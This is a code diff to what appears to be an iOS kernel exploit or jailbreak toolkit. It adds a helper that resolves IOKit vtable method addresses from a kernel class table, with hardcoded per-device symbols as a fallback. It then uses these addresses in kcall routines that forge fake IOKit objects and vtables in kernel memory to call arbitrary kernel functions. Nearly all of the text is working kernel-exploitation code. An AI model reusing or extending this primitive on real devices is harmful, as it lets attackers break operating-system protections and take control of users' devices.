@@ -10,6 +10,7 @@
 #include "kutils.h"
 #include "symbols.h"
 #include "early_kalloc.h"
+#include "iokit_classes.h"
 
 
 
@@ -24,6 +25,21 @@ iokit_user_client_trap(
   uintptr_t p5,
   uintptr_t p6 );
 
+// vtable slots, these are the same in every class so they're safe to hardcode
+#define VTABLE_SLOT_SERIALIZE                      (0x30/8)
+#define VTABLE_SLOT_GET_META_CLASS                 (0x38/8)
+#define VTABLE_SLOT_GET_TARGET_AND_TRAP_FOR_INDEX  (0x5c0/8)
+
+// look the method up in the class table built from the kernel dump,
+// only fall back to the hand-found per-device address if that didn't work
+uint64_t vtable_method(const char* class_name, uint32_t slot, enum ksymbol fallback) {
+  uint64_t method = iokit_class_method(&kernel_classes, class_name, slot);
+  if (method != 0) {
+    return method;
+  }
+  return ksym(fallback);
+}
+
 #if 0
 // OSSerializer::Serialize method
 // lets you pass two uint64_t arguments
@@ -57,9 +73,9 @@ void kcall(uint64_t fptr, uint64_t arg0, uint64_t arg1) {
   wk64(obj_kaddr+offsetof(struct fake_iokit_obj,           arg1), arg1);
   wk64(obj_kaddr+offsetof(struct fake_iokit_obj,           fptr), fptr);
   wk64(obj_kaddr+offsetof(struct fake_iokit_obj,         retain), ksym(KSYMBOL_RET));
-  wk64(obj_kaddr+offsetof(struct fake_iokit_obj,        release), ksym(KSYMBOL_OSSERIALIZER_SERIALIZE));
+  wk64(obj_kaddr+offsetof(struct fake_iokit_obj,        release), vtable_method("OSSerializer", VTABLE_SLOT_SERIALIZE, KSYMBOL_OSSERIALIZER_SERIALIZE));
   wk64(obj_kaddr+offsetof(struct fake_iokit_obj,            ign), 0);
-  wk64(obj_kaddr+offsetof(struct fake_iokit_obj, get_meta_class), ksym(KSYMBOL_OSARRAY_GET_META_CLASS));
+  wk64(obj_kaddr+offsetof(struct fake_iokit_obj, get_meta_class), vtable_method("OSArray", VTABLE_SLOT_GET_META_CLASS, KSYMBOL_OSARRAY_GET_META_CLASS));
   for (int i = 1; i < 0xff; i++) {
     wk64(obj_kaddr+offsetof(struct fake_iokit_obj, get_meta_class) + (i*8), 0x1010101010101000+(i*4));
   }
@@ -185,9 +201,9 @@ uint64_t kcall(uint64_t fptr, uint32_t argc, ...) {
     // vtable:
     wk64(obj_kaddr + 0x800 + 0x20,  ksym(KSYMBOL_RET)); // vtable::retain
     wk64(obj_kaddr + 0x800 + 0x28,  ksym(KSYMBOL_RET)); // vtable::release
-    wk64(obj_kaddr + 0x800 + 0x38,  ksym(KSYMBOL_IOUSERCLIENT_GET_META_CLASS)); // vtable::getMetaClass
+    wk64(obj_kaddr + 0x800 + 0x38,  vtable_method("IOUserClient", VTABLE_SLOT_GET_META_CLASS, KSYMBOL_IOUSERCLIENT_GET_META_CLASS)); // vtable::getMetaClass
     wk64(obj_kaddr + 0x800 + 0x5b8, ksym(KSYMBOL_CSBLOB_GET_CD_HASH)); // vtable::getExternalTrapForIndex
-    wk64(obj_kaddr + 0x800 + 0x5c0, ksym(KSYMBOL_IOUSERCLIENT_GET_TARGET_AND_TRAP_FOR_INDEX));
+    wk64(obj_kaddr + 0x800 + 0x5c0, vtable_method("IOUserClient", VTABLE_SLOT_GET_TARGET_AND_TRAP_FOR_INDEX, KSYMBOL_IOUSERCLIENT_GET_TARGET_AND_TRAP_FOR_INDEX));
     
     // allocate a port
     kern_return_t err;